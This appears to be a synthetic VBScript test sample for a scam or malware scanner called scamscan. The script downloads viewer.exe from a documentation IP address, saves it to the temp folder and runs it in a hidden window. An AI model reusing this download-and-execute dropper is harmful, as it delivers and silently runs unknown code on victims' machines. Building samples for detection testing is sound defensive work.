' scamscan synthetic sample - harmless text, not malware
Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", "http://198.51.100.20/viewer.exe", False
http.Send
Set st = CreateObject("ADODB.Stream")
st.Type = 1 : st.Open : st.Write http.ResponseBody
path = CreateObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") & "\viewer.exe"
st.SaveToFile path, 2
CreateObject("WScript.Shell").Run path, 0, False
